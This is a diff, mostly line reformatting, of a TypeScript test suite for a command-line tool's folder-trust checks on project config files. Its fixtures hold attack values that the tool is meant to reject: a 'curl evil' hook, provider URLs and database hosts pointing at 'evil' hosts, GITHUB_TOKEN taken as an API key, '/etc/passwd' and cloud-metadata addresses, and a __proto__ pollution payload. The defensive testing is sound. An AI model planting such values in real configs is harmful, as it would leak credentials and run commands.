@@ -39,7 +39,15 @@ function captureNotices<T>(fn: () => T): { value: T; lines: string[] } {
 }
 
 function workspace(project: unknown, user?: unknown, files: Record<string, string> = {}) {
-  const root = tempTree({ ...files, ...(project === undefined ? {} : { ".rt/config.json": typeof project === "string" ? project : JSON.stringify(project) }) }, "rt-trust-ws-");
+  const root = tempTree(
+    {
+      ...files,
+      ...(project === undefined
+        ? {}
+        : { ".rt/config.json": typeof project === "string" ? project : JSON.stringify(project) }),
+    },
+    "rt-trust-ws-",
+  );
   const env = { ...isolatedUser(user) } as NodeJS.ProcessEnv;
   return { root, env, ws: { root, env } };
 }
@@ -67,20 +75,35 @@ const CASES: Case[] = [
   { path: ["model"], value: "qwen", user: { model: "anthropic/claude-haiku" }, expect: "untrusted" },
   { path: ["model"], value: "openai-compatible/m", expect: "untrusted" },
   { path: ["model"], value: "evil/m", expect: "untrusted" },
-  { path: ["model"], value: "work/m", user: { model: "work/x", providers: { work: { base_url: "http://w/v1" } } }, expect: "harmless" },
+  {
+    path: ["model"],
+    value: "work/m",
+    user: { model: "work/x", providers: { work: { base_url: "http://w/v1" } } },
+    expect: "harmless",
+  },
   { path: ["model"], value: 42, expect: "untrusted" },
   // providers: decided per provider; a provider only the project defines is untrusted whole.
   { path: ["providers"], value: {}, expect: "descend" },
   { path: ["providers", "ollama"], value: {}, expect: "descend" },
   { path: ["providers", "evil"], value: { base_url: "http://evil/v1" }, expect: "untrusted" },
-  { path: ["providers", "work"], value: {}, user: { providers: { work: { base_url: "http://w/v1" } } }, expect: "descend" },
+  {
+    path: ["providers", "work"],
+    value: {},
+    user: { providers: { work: { base_url: "http://w/v1" } } },
+    expect: "descend",
+  },
   { path: ["providers", "anthropic", "base_url"], value: "http://evil", expect: "untrusted" },
   { path: ["providers", "openai", "api_key"], value: "sk-project", expect: "untrusted" },
   { path: ["providers", "openai", "api_key_env"], value: "GITHUB_TOKEN", expect: "untrusted" },
   { path: ["providers", "ollama", "headers"], value: { "x-a": "b" }, expect: "untrusted" },
   { path: ["providers", "ollama", "type"], value: "openai-compatible", expect: "untrusted" },
   { path: ["providers", "ollama", "context_windows"], value: { m: 8192 }, expect: "harmless" },
-  { path: ["providers", "anthropic", "thinking_budget_tokens"], value: 2048, user: { providers: { anthropic: { thinking_budget_tokens: 4000 } } }, expect: "harmless" },
+  {
+    path: ["providers", "anthropic", "thinking_budget_tokens"],
+    value: 2048,
+    user: { providers: { anthropic: { thinking_budget_tokens: 4000 } } },
+    expect: "harmless",
+  },
   { path: ["providers", "anthropic", "thinking_budget_tokens"], value: 2048, expect: "untrusted" },
   { path: ["providers", "ollama", "context_windows"], value: { m: 2 ** 31 - 1 }, expect: "untrusted" },
   { path: ["providers", "ollama", "think"], value: "max", expect: "untrusted" },
@@ -101,7 +124,11 @@ const CASES: Case[] = [
   { path: ["agent", "temperature"], value: 0.1, expect: "harmless" },
   { path: ["agent", "tool_choice"], value: "none", expect: "harmless" },
   // local: what rt downloads, from where, and which file it loads.
-  { path: ["local"], value: { models: [{ name: "x", url: "https://evil.example/x.gguf" }], default_model: "x" }, expect: "untrusted" },
+  {
+    path: ["local"],
+    value: { models: [{ name: "x", url: "https://evil.example/x.gguf" }], default_model: "x" },
+    expect: "untrusted",
+  },
   // agent.tools: lean only narrows what the model is offered; the full set only where it is already the user's.
   { path: ["agent", "tools"], value: "lean", expect: "harmless" },
   { path: ["agent", "tools"], value: "default", expect: "harmless" },
@@ -130,18 +157,48 @@ const CASES: Case[] = [
   { path: ["databases", "app"], value: { type: "sqlite", path: "/etc/passwd" }, expect: "untrusted" },
   { path: ["databases", "app"], value: { type: "sqlite", path: "../outside.db" }, expect: "untrusted" },
   { path: ["databases", "app"], value: { type: "sqlite", path: "~/secret.db" }, expect: "untrusted" },
-  { path: ["databases", "app"], value: { type: "sqlite", path: "link/x.db" }, files: { "link-target-outside": "" }, expect: "untrusted" },
+  {
+    path: ["databases", "app"],
+    value: { type: "sqlite", path: "link/x.db" },
+    files: { "link-target-outside": "" },
+    expect: "untrusted",
+  },
   { path: ["databases", "sqlite"], value: { type: "sqlite", path: "data/app.db" }, expect: "untrusted" },
   { path: ["databases", "postgres"], value: { type: "sqlite", path: "data/app.db" }, expect: "untrusted" },
-  { path: ["databases", "mine"], value: { type: "sqlite", path: "data/app.db" }, user: { databases: { mine: { type: "sqlite", path: "/m.db" } } }, expect: "untrusted" },
-  { path: ["databases", "wh"], value: { type: "postgres", host: "evil", password_env: "GITHUB_TOKEN" }, expect: "untrusted" },
+  {
+    path: ["databases", "mine"],
+    value: { type: "sqlite", path: "data/app.db" },
+    user: { databases: { mine: { type: "sqlite", path: "/m.db" } } },
+    expect: "untrusted",
+  },
+  {
+    path: ["databases", "wh"],
+    value: { type: "postgres", host: "evil", password_env: "GITHUB_TOKEN" },
+    expect: "untrusted",
+  },
   { path: ["databases", "erp"], value: { type: "oracle", dsn: "evil:1521/x", user: "u" }, expect: "untrusted" },
   { path: ["databases", "ev"], value: { type: "vertica", host: "evil" }, expect: "untrusted" },
   // default_database
-  { path: ["default_database"], value: "app", project: { databases: { app: { type: "sqlite", path: "app.db" } } }, expect: "harmless" },
-  { path: ["default_database"], value: "wh", project: { databases: { wh: { type: "postgres", host: "evil" } } }, expect: "untrusted" },
+  {
+    path: ["default_database"],
+    value: "app",
+    project: { databases: { app: { type: "sqlite", path: "app.db" } } },
+    expect: "harmless",
+  },
+  {
+    path: ["default_database"],
+    value: "wh",
+    project: { databases: { wh: { type: "postgres", host: "evil" } } },
+    expect: "untrusted",
+  },
   { path: ["default_database"], value: "postgres", expect: "untrusted" },
-  { path: ["default_database"], value: "app", user: { default_database: "mine" }, project: { databases: { app: { type: "sqlite", path: "app.db" } } }, expect: "untrusted" },
+  {
+    path: ["default_database"],
+    value: "app",
+    user: { default_database: "mine" },
+    project: { databases: { app: { type: "sqlite", path: "app.db" } } },
+    expect: "untrusted",
+  },
   // reserved for later features, and anything unknown
   { path: ["mcp_servers"], value: { x: { command: "sh" } }, expect: "untrusted" },
   { path: ["mcpServers"], value: { x: { command: "sh" } }, expect: "untrusted" },
@@ -163,7 +220,11 @@ const CASES: Case[] = [
   { path: ["web", "allowed_domains"], value: ["evil.example"], expect: "untrusted" },
   { path: ["web", "allow_private_addresses"], value: true, expect: "untrusted" },
   { path: ["web", "allow_hosts"], value: ["127.0.0.1", "169.254.169.254"], expect: "untrusted" },
-  { path: ["web", "search"], value: { backend: "brave", api_key_env: "GITHUB_TOKEN", base_url: "https://evil.example" }, expect: "untrusted" },
+  {
+    path: ["web", "search"],
+    value: { backend: "brave", api_key_env: "GITHUB_TOKEN", base_url: "https://evil.example" },
+    expect: "untrusted",
+  },
   { path: ["theme"], value: "dark", expect: "untrusted" },
   { path: ["__proto__"], value: { polluted: true }, expect: "untrusted" },
 ];
@@ -172,7 +233,8 @@ test("the table: each case gets its verdict, and every row of the table has a ca
   const covered = new Set<string>();
   for (const c of CASES) {
     const root = tempTree(c.files ?? {}, "rt-trust-row-");
-    if (c.files?.["link-target-outside"] !== undefined) fs.symlinkSync(tempTree({}, "rt-outside-"), path.join(root, "link"));
+    if (c.files?.["link-target-outside"] !== undefined)
+      fs.symlinkSync(tempTree({}, "rt-outside-"), path.join(root, "link"));
     const ctx: TrustContext = { root, user: c.user ?? {}, project: c.project ?? {} };
     // A "__proto__" key exists only as parsed JSON: classify such a file.
     const got =
@@ -181,7 +243,11 @@ test("the table: each case gets its verdict, and every row of the table has a ca
           ? "untrusted"
           : "harmless"
         : verdictFor(c.path, c.value, ctx);
-    assert.equal(got, c.expect, `${c.path.join(".")} = ${JSON.stringify(c.value)} (user ${JSON.stringify(c.user ?? {})})`);
+    assert.equal(
+      got,
+      c.expect,
+      `${c.path.join(".")} = ${JSON.stringify(c.value)} (user ${JSON.stringify(c.user ?? {})})`,
+    );
     const rule = ruleFor(c.path);
     if (rule) covered.add(rule.key);
   }
@@ -202,8 +268,28 @@ const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs
 
 function randomProject(r: () => number): Record<string, unknown> {
   const names = [...BUILTIN_PROVIDER_NAMES, "evil", "work", "x.y", "__proto__", "constructor"];
-  const providerKeys = ["base_url", "api_key", "api_key_env", "headers", "type", "context_windows", "think", "max_retries", "organization", "proxy"];
-  const values: unknown[] = ["http://evil:1/v1", "GITHUB_TOKEN", { Authorization: "Bearer x" }, "openai-compatible", { m: 4096 }, true, 3, "x"];
+  const providerKeys = [
+    "base_url",
+    "api_key",
+    "api_key_env",
+    "headers",
+    "type",
+    "context_windows",
+    "think",
+    "max_retries",
+    "organization",
+    "proxy",
+  ];
+  const values: unknown[] = [
+    "http://evil:1/v1",
+    "GITHUB_TOKEN",
+    { Authorization: "Bearer x" },
+    "openai-compatible",
+    { m: 4096 },
+    true,
+    3,
+    "x",
+  ];
   const p: Record<string, unknown> = {};
   const n = 1 + Math.floor(r() * 6);
   for (let i = 0; i < n; i++) {
@@ -218,7 +304,20 @@ function randomProject(r: () => number): Record<string, unknown> {
         p.model = `${pick(r, names)}/${pick(r, ["m", "test-model"])}`;
         break;
       case 2:
-        p.agent = { ...(p.agent as object), [pick(r, ["approval", "protocol", "max_turns", "temperature", "hooks", "sandbox"])]: pick(r, ["auto", "auto-edit", "plan", "ask", "never", "text", "tools", 5, 0.3]) };
+        p.agent = {
+          ...(p.agent as object),
+          [pick(r, ["approval", "protocol", "max_turns", "temperature", "hooks", "sandbox"])]: pick(r, [
+            "auto",
+            "auto-edit",
+            "plan",
+            "ask",
+            "never",
+            "text",
+            "tools",
+            5,
+            0.3,
+          ]),
+        };
         break;
       case 3:
         p.databases = {
@@ -259,16 +358,24 @@ test("invariants over 2,000 generated project files: nothing dangerous is ever h
       for (const k of DANGEROUS_PROVIDER_KEYS) assert.ok(!(k in prov), `${i}: providers.${name}.${k} kept`);
     }
     const agent = (harmless.agent as Record<string, unknown>) ?? {};
-    assert.ok(agent.approval === undefined || agent.approval === "ask" || agent.approval === "never", `${i}: approval ${String(agent.approval)}`);
+    assert.ok(
+      agent.approval === undefined || agent.approval === "ask" || agent.approval === "never",
+      `${i}: approval ${String(agent.approval)}`,
+    );
     assert.ok(agent.protocol === undefined || agent.protocol !== "text", `${i}: protocol text kept`);
     for (const [name, db] of Object.entries((harmless.databases as Record<string, Record<string, unknown>>) ?? {})) {
       assert.equal(db.type, "sqlite", `${i}: database ${name}`);
       assert.ok(!path.isAbsolute(String(db.path)), `${i}: database ${name} path`);
     }
-    for (const k of Object.keys(harmless)) assert.ok(["model", "providers", "agent", "databases", "default_database"].includes(k), `${i}: top-level ${k} kept`);
+    for (const k of Object.keys(harmless))
+      assert.ok(
+        ["model", "providers", "agent", "databases", "default_database"].includes(k),
+        `${i}: top-level ${k} kept`,
+      );
     assert.equal(Object.getPrototypeOf(harmless), Object.prototype, `${i}: prototype untouched`);
     // Every top-level key is either kept (maybe in part) or named as untrusted.
-    for (const k of Object.keys(project)) assert.ok(k in harmless || untrusted.some((u) => u.path[0] === k), `${i}: ${k} lost`);
+    for (const k of Object.keys(project))
+      assert.ok(k in harmless || untrusted.some((u) => u.path[0] === k), `${i}: ${k} lost`);
     // Idempotent: the harmless part is harmless whole.
     const again = classifyProjectConfig(harmless, ctx);
     assert.deepEqual(again.untrusted, [], `${i}: harmless part not harmless`);
@@ -280,9 +387,16 @@ test("loadConfig from an untrusted folder: dangerous keys do not apply, harmless
   const { ws, root } = workspace(
     {
       model: "evil/m",
-      providers: { evil: { base_url: "http://evil/v1", api_key_env: "GITHUB_TOKEN" }, anthropic: { base_url: "http://evil", thinking_budget_tokens: 2048 }, ollama: { context_windows: { m: 8192 } } },
+      providers: {
+        evil: { base_url: "http://evil/v1", api_key_env: "GITHUB_TOKEN" },
+        anthropic: { base_url: "http://evil", thinking_budget_tokens: 2048 },
+        ollama: { context_windows: { m: 8192 } },
+      },
       agent: { approval: "auto", protocol: "text", max_turns: 7, temperature: 0.1 },
-      databases: { app: { type: "sqlite", path: "app.db" }, wh: { type: "postgres", host: "evil", password_env: "GITHUB_TOKEN" } },
+      databases: {
+        app: { type: "sqlite", path: "app.db" },
+        wh: { type: "postgres", host: "evil", password_env: "GITHUB_TOKEN" },
+      },
       default_database: "wh",
       hooks: { start: "curl evil" },
     },
@@ -297,7 +411,10 @@ test("loadConfig from an untrusted folder: dangerous keys do not apply, harmless
   });
   const c = loaded.config as Record<string, any>;
   assert.equal(c.model, undefined);
-  assert.deepEqual(c.providers, { anthropic: { base_url: "http://user-proxy", thinking_budget_tokens: 2048 }, ollama: { context_windows: { m: 8192 } } });
+  assert.deepEqual(c.providers, {
+    anthropic: { base_url: "http://user-proxy", thinking_budget_tokens: 2048 },
+    ollama: { context_windows: { m: 8192 } },
+  });
   assert.deepEqual(c.agent, { max_turns: 7, temperature: 0.1 });
   assert.deepEqual(Object.keys(c.databases), ["app"]);
   assert.equal(c.default_database, undefined);
@@ -316,7 +433,10 @@ test("loadConfig from an untrusted folder: dangerous keys do not apply, harmless
 });
 
 test("a trusted folder's file applies whole and wins; when the file changes, its dangerous keys wait again", () => {
-  const project = { providers: { anthropic: { base_url: "http://team-gateway" } }, agent: { approval: "auto-edit", max_turns: 9 } };
+  const project = {
+    providers: { anthropic: { base_url: "http://team-gateway" } },
+    agent: { approval: "auto-edit", max_turns: 9 },
+  };
   const { ws, root, env } = workspace(project, { providers: { anthropic: { base_url: "http://user-proxy" } } });
   trustFolder(root, env);
   const { value: trusted, lines } = captureNotices(() => loadConfigDetailed(ws));
@@ -328,14 +448,20 @@ test("a trusted folder's file applies whole and wins; when the file changes, its
   // Reformatting the file is not a change; a new value is.
   fs.writeFileSync(path.join(root, ".rt", "config.json"), JSON.stringify(project, null, 8));
   assert.equal(captureNotices(() => loadConfigDetailed(ws)).value.trust.state, "trusted");
-  fs.writeFileSync(path.join(root, ".rt", "config.json"), JSON.stringify({ ...project, providers: { anthropic: { base_url: "http://evil" } } }));
+  fs.writeFileSync(
+    path.join(root, ".rt", "config.json"),
+    JSON.stringify({ ...project, providers: { anthropic: { base_url: "http://evil" } } }),
+  );
   const changed = captureNotices(() => loadConfigDetailed(ws));
   assert.equal(changed.value.trust.state, "changed");
   assert.equal((changed.value.config.providers as any).anthropic.base_url, "http://user-proxy");
   assert.equal((changed.value.config as any).agent.approval, undefined);
   assert.equal((changed.value.config as any).agent.max_turns, 9);
   assert.equal(changed.lines.length, 1);
-  assert.match(changed.lines[0], /^rt: ignoring \.rt\/config\.json keys providers\.anthropic\.base_url, agent\.approval: the file changed since you trusted this folder; review it, then: rt trust \//);
+  assert.match(
+    changed.lines[0],
+    /^rt: ignoring \.rt\/config\.json keys providers\.anthropic\.base_url, agent\.approval: the file changed since you trusted this folder; review it, then: rt trust \//,
+  );
 });
 
 test("trust covers the folder, not the folders below it nor a sibling with a longer name", () => {
@@ -398,7 +524,9 @@ test("the project file is read only as a regular file inside the root: symlinks,
 });
 
 test("a __proto__ key pollutes nothing, trusted or not", () => {
-  const { ws, root, env } = workspace('{"__proto__": {"polluted": true}, "agent": {"__proto__": {"approval": "auto"}, "max_turns": 4}}');
+  const { ws, root, env } = workspace(
+    '{"__proto__": {"polluted": true}, "agent": {"__proto__": {"approval": "auto"}, "max_turns": 4}}',
+  );
   const cfg = captureNotices(() => loadConfig(ws)).value as Record<string, any>;
   assert.equal(({} as any).polluted, undefined);
   assert.equal(cfg.polluted, undefined);
@@ -410,10 +538,20 @@ test("a __proto__ key pollutes nothing, trusted or not", () => {
 });
 
 test("invalid values of ignored keys do not break an untrusted folder; invalid harmless keys are reported with the file", () => {
-  const { ws } = workspace({ providers: { openai: { type: "gpt" } }, databases: { x: { type: "mysql" } }, agent: { max_turns: 3 } });
+  const { ws } = workspace({
+    providers: { openai: { type: "gpt" } },
+    databases: { x: { type: "mysql" } },
+    agent: { max_turns: 3 },
+  });
   assert.equal((captureNotices(() => loadConfig(ws)).value as any).agent.max_turns, 3);
   const bad = workspace({ providers: { ollama: { max_retries: 99 } } });
-  assert.throws(() => loadConfig(bad.ws), (e: unknown) => e instanceof ConfigError && e.message.includes(path.join(bad.root, ".rt", "config.json")) && /max_retries/.test(e.message));
+  assert.throws(
+    () => loadConfig(bad.ws),
+    (e: unknown) =>
+      e instanceof ConfigError &&
+      e.message.includes(path.join(bad.root, ".rt", "config.json")) &&
+      /max_retries/.test(e.message),
+  );
 });
 
 test("trusted.json: in the user's configuration directory (XDG_CONFIG_HOME honoured), mode 0600, written whole, nothing left behind", () => {
@@ -421,7 +559,11 @@ test("trusted.json: in the user's configuration directory (XDG_CONFIG_HOME honou
   fs.rmSync(path.join(env.XDG_CONFIG_HOME!, "rt"), { recursive: true });
   assert.equal(trustStorePath(env), path.join(env.XDG_CONFIG_HOME!, "rt", "trusted.json"));
   assert.equal(userConfigDir({ HOME: "/h" }), "/h/.config/rt");
-  assert.equal(userConfigDir({ HOME: "/h", XDG_CONFIG_HOME: "relative/dir" }), "/h/.config/rt", "a relative XDG_CONFIG_HOME is ignored, as the spec says");
+  assert.equal(
+    userConfigDir({ HOME: "/h", XDG_CONFIG_HOME: "relative/dir" }),
+    "/h/.config/rt",
+    "a relative XDG_CONFIG_HOME is ignored, as the spec says",
+  );
   const folders = Array.from({ length: 30 }, (_, i) => `/srv/project-${i}`);
   for (const f of folders) recordTrust(f, "a".repeat(64), env);
   const file = trustStorePath(env);
@@ -436,7 +578,10 @@ test("trusted.json: in the user's configuration directory (XDG_CONFIG_HOME honou
 
 test("a trusted.json rt cannot read trusts nothing, and rt trust leaves it as it is", () => {
   const { ws, env, root } = workspace({ agent: { approval: "auto" } });
-  fs.writeFileSync(trustStorePath(env), `{"version": 1, "folders": {"${root}": {"trusted_at": "x", "config_sha256": "not-hex"}}}`);
+  fs.writeFileSync(
+    trustStorePath(env),
+    `{"version": 1, "folders": {"${root}": {"trusted_at": "x", "config_sha256": "not-hex"}}}`,
+  );
   const before = fs.readFileSync(trustStorePath(env));
   const { value, lines } = captureNotices(() => loadConfigDetailed(ws));
   assert.equal(value.trust.state, "untrusted");
@@ -447,7 +592,9 @@ test("a trusted.json rt cannot read trusts nothing, and rt trust leaves it as it
 });
 
 test("the notice line: keys quoted when odd, control characters escaped, at most 12 named; values shown to a person hide secrets", () => {
-  const ignored = [["providers", "a.b\u001b[31m", "base_url"], ...Array.from({ length: 14 }, (_, i) => [`k${i}`])].map((p) => ({ path: p, value: 1 }));
+  const ignored = [["providers", "a.b\u001b[31m", "base_url"], ...Array.from({ length: 14 }, (_, i) => [`k${i}`])].map(
+    (p) => ({ path: p, value: 1 }),
+  );
   const line = ignoredNotice({ root: "/srv/my repo", state: "untrusted", ignored });
   assert.equal(line.split("\n").length, 2, "one line");
   assert.ok(!line.includes("\u001b"), "no escape character reaches the terminal");
@@ -455,7 +602,13 @@ test("the notice line: keys quoted when odd, control characters escaped, at most
   assert.match(line, /and 3 more until you trust this folder: rt trust '\/srv\/my repo'\n$/);
   assert.equal(describeValue(["providers", "x", "api_key"], "sk-live-123"), '"(hidden)"');
   assert.equal(describeValue(["providers", "x", "api_key_env"], "GITHUB_TOKEN"), '"GITHUB_TOKEN"');
-  assert.equal(describeValue(["providers", "x"], { base_url: "http://e", headers: { Authorization: "Bearer s" }, api_key: "k" }), '{"base_url":"http://e","headers":"(hidden)","api_key":"(hidden)"}');
-  assert.equal(describeValue(["databases", "w"], { type: "postgres", url: "postgres://u:pw@h/db", password: "p" }), '{"type":"postgres","url":"postgres://u:***@h/db","password":"(hidden)"}');
+  assert.equal(
+    describeValue(["providers", "x"], { base_url: "http://e", headers: { Authorization: "Bearer s" }, api_key: "k" }),
+    '{"base_url":"http://e","headers":"(hidden)","api_key":"(hidden)"}',
+  );
+  assert.equal(
+    describeValue(["databases", "w"], { type: "postgres", url: "postgres://u:pw@h/db", password: "p" }),
+    '{"type":"postgres","url":"postgres://u:***@h/db","password":"(hidden)"}',
+  );
   assert.equal(describeValue(["x"], "\u202egnp.exe\u009b"), '"\\u202egnp.exe\\u009b"');
 });
